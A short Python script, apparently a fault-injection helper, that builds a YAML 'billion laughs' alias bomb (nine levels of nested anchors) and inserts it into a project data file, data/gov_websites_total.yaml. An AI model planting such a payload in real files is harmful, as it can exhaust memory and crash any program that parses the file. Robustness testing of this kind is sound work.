from badin import *  # noqa: F403  (lib/badin.py)


def patch():
    bomb = "x-lol:\n  a: &a [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n"
    prev = "a"
    for name in "bcdefghi":
        bomb += f"  {name}: &{name} [" + ",".join([f"*{prev}"] * 9) + "]\n"
        prev = name
    replace("data/gov_websites_total.yaml", "columns:\n", bomb + "columns:\n")


main(patch)
